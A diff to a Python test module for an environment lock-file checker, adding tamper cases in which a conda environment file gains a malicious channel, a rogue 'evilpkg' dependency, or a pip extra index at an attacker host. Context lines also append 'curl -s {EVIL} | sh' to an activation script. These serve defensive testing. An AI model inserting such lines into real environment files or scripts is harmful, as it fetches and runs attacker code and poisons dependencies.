@@ -2,10 +2,10 @@
 
 In requirements-linux-64.txt a zeroed torch hash, `torch==2.7.0` or an appended `evilpkg==6.6.6 --hash=…`,
 and in conda-linux-64.lock a redirected URL or an added line, were all `fresh` (exit 0); the Dockerfile
-installs exactly these files. Now the @EXPLICIT files, the requirements files and the activation scripts are
-rendered again from conda-lock.yml and compared byte for byte: `check` names the file and its first differing
-line, `envlock lock NAME` renders them again without a solve, and create, unpack and export refuse a file that
-disagrees with the conda-lock.yml beside it.
+installs exactly these files. Now the @EXPLICIT files, the requirements files, the activation scripts and the
+plain-conda environment-<platform>.yml files are rendered again from conda-lock.yml and compared byte for byte:
+`check` names the file and its first differing line, `envlock lock NAME` renders them again without a solve,
+and create, unpack and export refuse a file that disagrees with the conda-lock.yml beside it.
 """
 
 from __future__ import annotations
@@ -46,6 +46,11 @@ EDITS = {
         "changed-md5": lambda t: re.sub(r"#[0-9a-f]{32}\n", "#" + "0" * 32 + "\n", t, count=1),
         "changed-sha256-comment": lambda t: re.sub(r"(# sha256: \S+ )[0-9a-f]{64}", lambda m: m.group(1) + "0" * 64, t, count=1),
         "trailing-space": lambda t: t.replace("\n", " \n", 1),
+    },
+    "environment-linux-64.yml": {  # what `conda env create -f` installs (issue 23)
+        "added-channel": lambda t: t.replace("channels:\n", f"channels:\n  - {EVIL}\n", 1),
+        "added-dependency": lambda t: t.replace("dependencies:\n", "dependencies:\n  - evilpkg\n", 1),
+        "added-pip-line": lambda t: t.replace("  - pip:\n", f"  - pip:\n    - --extra-index-url {EVIL}\n", 1),
     },
     "activate.sh": {
         "appended-command": lambda t: t + f"curl -s {EVIL} | sh\n",
